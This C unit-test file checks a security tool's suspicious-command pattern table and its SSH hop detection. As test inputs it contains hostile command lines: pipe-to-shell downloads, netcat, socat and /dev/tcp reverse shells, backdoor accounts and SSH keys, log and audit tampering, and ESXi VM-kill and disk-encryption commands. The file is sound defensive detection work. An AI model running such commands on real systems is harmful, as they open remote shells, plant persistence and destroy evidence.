/*
 * Unit tests for the suspicious-execution table: each family with command
 * lines that must hit and near misses that must not, rows added by the
 * configuration, and onward-hop detection with its target host.
 */
#include "score/patterns.h"

#include <stdlib.h>

#include "tcheck.h"

static struct patterns builtin;

struct row_case {
    const char *cmdline;
    const char *name;       /* expected row, or NULL for no hit at all */
};

/* Builds an execution whose command line was logged as one string. */
static void
exec_cmdline(struct event *ev, const char *exe, const char *cmdline)
{
    event_reset(ev);
    ev->kind = EVENT_EXEC;
    if (exe != NULL) {
        event_set_str(ev, EVENT_EXE, sv_cstr(exe));
    }
    if (cmdline != NULL) {
        event_set_str(ev, EVENT_CMDLINE, sv_cstr(cmdline));
    }
}

/* Builds an execution with argv split on spaces. */
static void
exec_argv(struct event *ev, const char *exe, const char *words)
{
    event_reset(ev);
    ev->kind = EVENT_EXEC;
    event_set_str(ev, EVENT_EXE, sv_cstr(exe));
    struct sv rest = sv_cstr(words), word;
    while (rest.p != NULL) {
        rest = sv_cut(rest, ' ', &word);
        event_add_arg(ev, word);
    }
}

/* Returns true when a row named name hit; prints the hits otherwise. */
static bool
has_hit(struct patterns *p, const char *platform,
        const struct event *ev, const char *name)
{
    struct pattern_hit hits[16];
    int n = patterns_match(p, platform, ev, hits, 16);

    for (int i = 0; i < n && i < 16; i++) {
        if (name != NULL && strcmp(hits[i].name, name) == 0) {
            return true;
        }
    }
    if (name == NULL && n == 0) {
        return true;
    }
    for (int i = 0; i < n && i < 16; i++) {
        printf("  hit %s/%s on \"%s\"\n", hits[i].family, hits[i].name,
               hits[i].text);
    }
    return false;
}

static void
run_cases(const struct row_case *cases, size_t n)
{
    struct event ev;

    event_init(&ev);
    for (size_t i = 0; i < n; i++) {
        exec_cmdline(&ev, NULL, cases[i].cmdline);
        if (!has_hit(&builtin, "linux", &ev, cases[i].name)) {
            printf("  case \"%s\": expected %s\n", cases[i].cmdline,
                   cases[i].name ? cases[i].name : "no hit");
            CHECK(false);
        }
    }
    event_fini(&ev);
}

#define RUN(cases) run_cases((cases), sizeof(cases) / sizeof((cases)[0]))

static void
discovery_rows(void)
{
    static const struct row_case cases[] = {
        { "whoami", "whoami" },
        { "/usr/bin/whoami", "whoami" },
        { "id", "id" },
        { "id -u", "id" },
        { "cd /srv; id", "id" },
        { "uname -a", "uname_all" },
        { "uname -srm", NULL },
        { "hostname", "hostname" },
        { "ip a", "network_config" },
        { "ip -4 addr show", "network_config" },
        { "/sbin/ifconfig eth0", "network_config" },
        { "cat /etc/passwd", "account_files" },
        { "sudo cat /etc/shadow", "account_files" },
        { "cat /etc/hosts", NULL },
        { "grid --size 4", NULL },
        { "echo whoami-report", NULL },
    };
    RUN(cases);
}

static void
tool_transfer_rows(void)
{
    static const struct row_case cases[] = {
        { "curl -O http://192.0.2.9/x", "download_tool" },
        { "/usr/bin/wget -q http://192.0.2.9/x", "download_tool" },
        { "tftp 192.0.2.9", "download_tool" },
        { "ls /home/curly", NULL },
        { "/home/curly/bin/tool", NULL },
        { "curly --help", NULL },
        { "scp x host:/tmp", "scp" },
        { "curl -s http://192.0.2.9/i.sh | bash", "pipe_to_shell" },
        { "wget -qO- http://192.0.2.9/i | sudo sh", "pipe_to_shell" },
        { "cat notes | shuf", NULL },
        { "chmod +x ./payload", "chmod_exec" },
        { "chmod u+rwx run", "chmod_exec" },
        { "chmod 755 run", "chmod_exec" },
        { "chmod 644 notes.txt", NULL },
        { "chmod go-w notes.txt", NULL },
    };
    RUN(cases);
}

static void
tmp_execution_rows(void)
{
    static const struct row_case cases[] = {
        { "/tmp/.x/miner -o pool", "run_from_tmp" },
        { "cd /srv && /dev/shm/run", "run_from_tmp" },
        { "bash /var/tmp/setup.sh", "script_in_tmp" },
        { "python3 /tmp/a.py", "script_in_tmp" },
        { "ls /tmp/build", NULL },
        { "rm -rf /tmp/build", NULL },
    };
    struct event ev;

    RUN(cases);
    event_init(&ev);
    exec_argv(&ev, "/dev/shm/kworker", "kworker");
    CHECK(has_hit(&builtin, "linux", &ev, "exe_in_tmp"));
    exec_argv(&ev, "/usr/bin/tmpwatch", "tmpwatch 24 /tmp");
    CHECK(has_hit(&builtin, "linux", &ev, NULL));
    event_fini(&ev);
}

static void
encoded_interpreter_rows(void)
{
    static const struct row_case cases[] = {
        { "echo aGVsbG8= | base64 -d", "base64_decode" },
        { "base64 --decode blob", "base64_decode" },
        { "base64 notes.txt", NULL },
        { "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
          "python_inline" },
        { "python3 manage.py check", NULL },
        { "perl -e 'print 1'", "perl_inline" },
        { "perl script.pl", NULL },
        { "php -r 'system(1);'", "other_inline" },
        { "openssl base64 -d -in x", "openssl_decode" },
    };
    RUN(cases);
}

static void
reverse_shell_rows(void)
{
    static const struct row_case cases[] = {
        { "bash -c 'exec 5<>/dev/tcp/192.0.2.9/443'", "dev_tcp" },
        { "nc -e /bin/sh 192.0.2.9 4444", "netcat_exec" },
        { "ncat 192.0.2.9 4444 -e /bin/bash", "netcat_exec" },
        { "nc -zv db01 5432", NULL },
        { "socat TCP:192.0.2.9:443 EXEC:/bin/sh", "socat_exec" },
        { "bash -i", "interactive_shell" },
        { "sh -i", "interactive_shell" },
        { "bash script.sh", NULL },
        { "mkfifo /tmp/f", "named_pipe" },
    };
    RUN(cases);
}

static void
persistence_rows(void)
{
    static const struct row_case cases[] = {
        { "crontab -e", "crontab_edit" },
        { "crontab /tmp/c", "crontab_edit" },
        { "crontab -l", NULL },
        { "echo '* * * * * x' >> /etc/crontab", "cron_files" },
        { "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
          "authorized_keys" },
        { "ls ~/.ssh", NULL },
        { "systemctl enable evil.service", "systemd_enable" },
        { "systemctl status sshd", NULL },
        { "cp x.service /etc/systemd/system/x.service", "systemd_unit_file" },
        { "echo 'x &' >> ~/.bashrc", "shell_rc_file" },
        { "source ~/.bashrc", NULL },
        { "launchctl load ~/Library/LaunchAgents/x.plist",
          "launchctl_load" },
        { "useradd -m backdoor", "account_change" },
    };
    RUN(cases);
}

static void
defense_evasion_rows(void)
{
    static const struct row_case cases[] = {
        { "history -c", "history_tamper" },
        { "unset HISTFILE", "history_tamper" },
        { "export HISTFILE=/dev/null", "history_tamper" },
        { "history | tail", NULL },
        { "rm -f /var/log/auth.log", "log_deletion" },
        { "> /var/log/secure", "log_deletion" },
        { "tail /var/log/syslog", NULL },
        { "auditctl -D", "audit_rules_cleared" },
        { "auditctl -e 0", "audit_rules_cleared" },
        { "auditctl -l", NULL },
        { "setenforce 0", "selinux_permissive" },
        { "setenforce 1", NULL },
        { "systemctl stop auditd", "logging_stopped" },
        { "systemctl restart nginx", NULL },
        { "journalctl --vacuum-time=1s", "journal_vacuum" },
    };
    RUN(cases);
}

static void
esxi_rows(void)
{
    static const struct row_case cases[] = {
        { "esxcli network firewall set --enabled false", "firewall_off" },
        { "esxcli vm process kill --type=force --world-id=1",
          "vm_process_kill" },
        { "esxcli vm process list", "esxcli_discovery" },
        { "esxcli system syslog config set --loghost=''",
          "syslog_change" },
        { "esxcli system settings kernel set -s execInstalledOnly "
          "-v FALSE", "exec_policy_change" },
        { "vim-cmd vmsvc/power.off 12", "vm_power_off" },
        { "vim-cmd vmsvc/getallvms", "vm_discovery" },
        { "vmkfstools -i a.vmdk b.vmdk", "vmkfstools" },
        { "openssl enc -aes-256-cbc -in a.vmdk -out a.enc",
          "encryption_tool" },
        { "openssl enc -d -aes-256-cbc -in a.enc", "openssl_decode" },
        { "openssl x509 -in cert.pem -noout", NULL },
        { "/etc/init.d/vmsyslogd stop", "logging_service_stop" },
        { "esxcli network ip interface list", NULL },
    };
    RUN(cases);
}

static void
hit_carries_text(void)
{
    struct event ev;
    struct pattern_hit hits[4];

    event_init(&ev);
    exec_argv(&ev, "/usr/bin/curl", "curl -O http://192.0.2.9/x");
    int n = patterns_match(&builtin, "linux", &ev, hits, 4);
    CHECK(n >= 1);
    CHECK_STR(hits[0].family, "tool_transfer");
    CHECK_STR(hits[0].name, "download_tool");
    CHECK_STR(hits[0].text, "curl");
    CHECK_INT(patterns_match(&builtin, "linux", &ev, hits, 0), n);
    event_fini(&ev);
}

static void
exe_name_alone_hits(void)
{
    struct event ev;

    event_init(&ev);
    exec_cmdline(&ev, "/usr/bin/whoami", NULL);
    CHECK(has_hit(&builtin, "linux", &ev, "whoami"));
    /* A busybox applet: argv[0] is the applet, the exe is busybox. */
    exec_argv(&ev, "/bin/busybox", "wget http://192.0.2.9/x");
    CHECK(has_hit(&builtin, "linux", &ev, "download_tool"));
    event_fini(&ev);
}

static void
long_cmdline_bounded(void)
{
    struct event ev;
    struct pattern_hit hit;
    static char big[20000];

    memset(big, 'a', sizeof(big) - 1);
    memcpy(big, "cat /etc/passwd ", 16);
    event_init(&ev);
    exec_cmdline(&ev, NULL, big);
    CHECK_INT(patterns_match(&builtin, "linux", &ev, &hit, 1), 1);
    CHECK(strlen(hit.text) < PATTERNS_MAX_MATCH);

    char buf[64];
    bool cut;
    CHECK_INT(patterns_command_text(&ev, buf, sizeof(buf), &cut), 63);
    CHECK(cut);
    event_fini(&ev);
}

/* A configured row that repeats a capturing group, on a command line of
 * 1,500 arguments: JIT code runs out of its fixed stack there, and the
 * interpreter must still find the match. */
static void
repeated_group_on_long_line(void)
{
    static const char *items[] = { "re:^tool( \\S+)*$" };
    struct config cfg;
    struct patterns p;
    struct event ev;
    char msg[256];
    char cmd[3100];
    size_t used = 4;

    config_default(&cfg);
    cfg.platforms[CONFIG_LINUX].patterns.items = items;
    cfg.platforms[CONFIG_LINUX].patterns.n = 1;
    CHECK_INT(patterns_init(&p, &cfg, msg, sizeof(msg)), 0);
    memcpy(cmd, "tool", 4);
    for (int i = 0; i < 1500; i++) {
        memcpy(cmd + used, " a", 2);
        used += 2;
    }
    cmd[used] = '\0';
    event_init(&ev);
    exec_cmdline(&ev, NULL, cmd);
    CHECK(has_hit(&p, "linux", &ev, items[0]));
    event_fini(&ev);
    patterns_fini(&p);
    memset(&cfg.platforms[CONFIG_LINUX].patterns, 0,
           sizeof(cfg.platforms[CONFIG_LINUX].patterns));
    config_fini(&cfg);
}

static void
config_rows_per_platform(void)
{
    struct config cfg;
    struct config_error err;
    struct patterns p;
    struct event ev;
    char msg[256];

    config_default(&cfg);
    CHECK_INT(config_load(&cfg, "tests/fixtures/config/full.yaml", &err), 0);
    CHECK_INT(patterns_init(&p, &cfg, msg, sizeof(msg)), 0);
    event_init(&ev);

    /* Linux SuspiciousProcessList: commands in command position. */
    exec_cmdline(&ev, NULL, "nc 192.0.2.9 80");
    CHECK(has_hit(&p, "linux", &ev, "nc"));
    CHECK(!has_hit(&p, "macos", &ev, "nc"));
    exec_cmdline(&ev, NULL, "sync; bash  -i");
    CHECK(has_hit(&p, "linux", &ev, "bash -i"));
    exec_cmdline(&ev, NULL, "./xmrig --donate 0");
    CHECK(has_hit(&p, "linux", &ev, "re:\\bxmrig\\b"));
    exec_cmdline(&ev, NULL, "func 1");
    CHECK(has_hit(&p, "linux", &ev, NULL));

    /* macOS CommandLineKeywords: literal words anywhere. */
    exec_cmdline(&ev, NULL, "/usr/bin/osascript -e 'x'");
    CHECK(has_hit(&p, "macos", &ev, "osascript"));
    exec_cmdline(&ev, NULL, "myosascripts");
    CHECK(!has_hit(&p, "macos", &ev, "osascript"));

    /* ESXi CommandList. */
    exec_cmdline(&ev, NULL, "rm -rf /vmfs/volumes/ds1/vm");
    CHECK(has_hit(&p, "esxi", &ev, "rm"));
    exec_cmdline(&ev, NULL, "ls -l rm");
    CHECK(!has_hit(&p, "esxi", &ev, "rm"));

    event_fini(&ev);
    patterns_fini(&p);
    config_fini(&cfg);
}

static void
bad_config_regex_rejected(void)
{
    struct config cfg;
    struct config_error err;

    config_default(&cfg);
    FILE *f = fopen("build/tests/bad_pattern.yaml", "w");
    CHECK(f != NULL);
    if (f == NULL) {
        return;
    }
    fputs("platforms:\n  linux:\n    SuspiciousProcessList: "
          "[\"re:(unclosed\"]\n", f);
    fclose(f);
    CHECK_INT(config_load(&cfg, "build/tests/bad_pattern.yaml", &err), -1);
    CHECK_INT(err.line, 3);
    CHECK_STR(err.key, "platforms.linux.SuspiciousProcessList[0]");
    CHECK(strstr(err.message, "missing closing parenthesis") != NULL);
    config_fini(&cfg);
    remove("build/tests/bad_pattern.yaml");
}

struct hop_case {
    const char *words;      /* argv, split on spaces */
    const char *target;     /* NULL: not a hop */
};

static void
hop_targets(void)
{
    static const struct hop_case cases[] = {
        { "ssh db01", "db01" },
        { "ssh -p 2222 admin@db01.example.com uptime",
          "db01.example.com" },
        { "ssh -i /home/a/.ssh/id -o StrictHostKeyChecking=no 192.0.2.7",
          "192.0.2.7" },
        { "ssh -p2222 -v root@[2001:db8::5]", "2001:db8::5" },
        { "ssh ssh://ops@jump:2200", "jump" },
        { "ssh -V", NULL },
        { "scp file.tar backup@192.0.2.8:/srv/", "192.0.2.8" },
        { "scp -P 2222 a b", NULL },
        { "scp ./a ./b", NULL },
        { "rsync -az -e ssh ./site/ web02:/var/www/", "web02" },
        { "rsync -a /src/ /dst/", NULL },
        { "rsync -a mirror::module/ /dst/", NULL },
        { "sftp -P 22 u@files01", "files01" },
        { "ssh-keygen -t ed25519", NULL },
    };
    struct event ev;

    event_init(&ev);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct sv word, rest = sv_cstr(cases[i].words), target = SV_NULL;
        char exe[64];

        sv_cut(rest, ' ', &word);
        snprintf(exe, sizeof(exe), "/usr/bin/%.*s", (int)word.len, word.p);
        exec_argv(&ev, exe, cases[i].words);
        bool hop = patterns_is_hop(&ev, &target);
        if (hop != (cases[i].target != NULL)) {
            printf("  case \"%s\": hop is %d\n", cases[i].words, hop);
            CHECK(false);
        } else if (hop) {
            CHECK_SV(target, cases[i].target);
        }
    }
    event_fini(&ev);
}

static void
hop_from_cmdline(void)
{
    struct event ev;
    struct sv target = SV_NULL;

    event_init(&ev);
    exec_cmdline(&ev, NULL, "ssh  -l root 192.0.2.10");
    CHECK(patterns_is_hop(&ev, &target));
    CHECK_SV(target, "192.0.2.10");
    exec_cmdline(&ev, NULL, "sshd -D");
    CHECK(!patterns_is_hop(&ev, &target));
    event_fini(&ev);
}

int
main(void)
{
    char err[256];

    if (patterns_init(&builtin, NULL, err, sizeof(err)) < 0) {
        printf("FAIL patterns/init: %s\n", err);
        return 1;
    }
    TEST_RUN("patterns", discovery_rows);
    TEST_RUN("patterns", repeated_group_on_long_line);
    TEST_RUN("patterns", tool_transfer_rows);
    TEST_RUN("patterns", tmp_execution_rows);
    TEST_RUN("patterns", encoded_interpreter_rows);
    TEST_RUN("patterns", reverse_shell_rows);
    TEST_RUN("patterns", persistence_rows);
    TEST_RUN("patterns", defense_evasion_rows);
    TEST_RUN("patterns", esxi_rows);
    TEST_RUN("patterns", hit_carries_text);
    TEST_RUN("patterns", exe_name_alone_hits);
    TEST_RUN("patterns", long_cmdline_bounded);
    TEST_RUN("patterns", config_rows_per_platform);
    TEST_RUN("patterns", bad_config_regex_rejected);
    TEST_RUN("patterns", hop_targets);
    TEST_RUN("patterns", hop_from_cmdline);
    patterns_fini(&builtin);
    TEST_EXIT();
}
